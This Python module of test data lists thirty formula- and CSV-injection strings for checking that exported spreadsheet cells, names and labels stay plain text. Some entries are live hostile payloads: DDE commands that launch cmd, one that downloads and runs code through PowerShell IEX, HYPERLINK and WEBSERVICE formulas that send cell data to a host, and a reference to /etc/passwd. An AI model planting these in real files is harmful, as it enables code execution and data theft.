"""Thirty texts that programs take for formulas, links, commands or the end of a field.

Each is put into every place that holds text (a cell, a label, a value label, a head, a sheet's name, a
file's name), in every format: what is read back is the same text, and no formula and no link has come
of it. ``AT_EDGES`` are those whose first or last character some formats may not keep.
"""

from typing import Final

NO_BREAK: Final = "\N{NO-BREAK SPACE}"
ZERO_WIDTH: Final = "\N{ZERO WIDTH SPACE}"
MARK: Final = "\N{ZERO WIDTH NO-BREAK SPACE}"

PAYLOADS: Final = {
    "equals": "=1+1",
    "plus": "+84 91 234 56 78",
    "minus": "-1,26",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "percent": "%0A=1+1",
    "pipe": "|calc",
    "semicolon": ";=1+1",
    "full-width equals": "\N{FULLWIDTH EQUALS SIGN}1+1",
    "full-width plus": "\N{FULLWIDTH PLUS SIGN}1+1",
    "full-width minus": "\N{FULLWIDTH HYPHEN-MINUS}1+1",
    "full-width at": "\N{FULLWIDTH COMMERCIAL AT}SUM(A1)",
    "DDE": "=cmd|' /C calc'!A0",
    "DDE after a sum": "=1+1+cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
    "DDE function": '=DDE("cmd";"/C calc";"x")',
    "hyperlink": '=HYPERLINK("http://example.org/?x="&A1,"Xem")',
    "web service": '=WEBSERVICE("http://example.org/"&A1)',
    "other workbook": "='file:///etc/passwd'#$passwd.A1",
    "leading space": " =1+1",
    "no-break space": f"{NO_BREAK}=1+1",
    "zero-width space": f"{ZERO_WIDTH}=1+1",
    "byte order mark": f"{MARK}=1+1",
    "closing quote": '"=1+1',
    "quote and comma": '","=1+1',
    "quote and line": '"\r\n=1+1,"',
    "after a separator": "a,=1+1;=2+2\t=3+3",
    "address": "http://example.org/=1",
    "apostrophe": "'=1+1",
}
assert len(PAYLOADS) == 30

AT_EDGES: Final = ("tab", "carriage return", "line feed", "leading space")
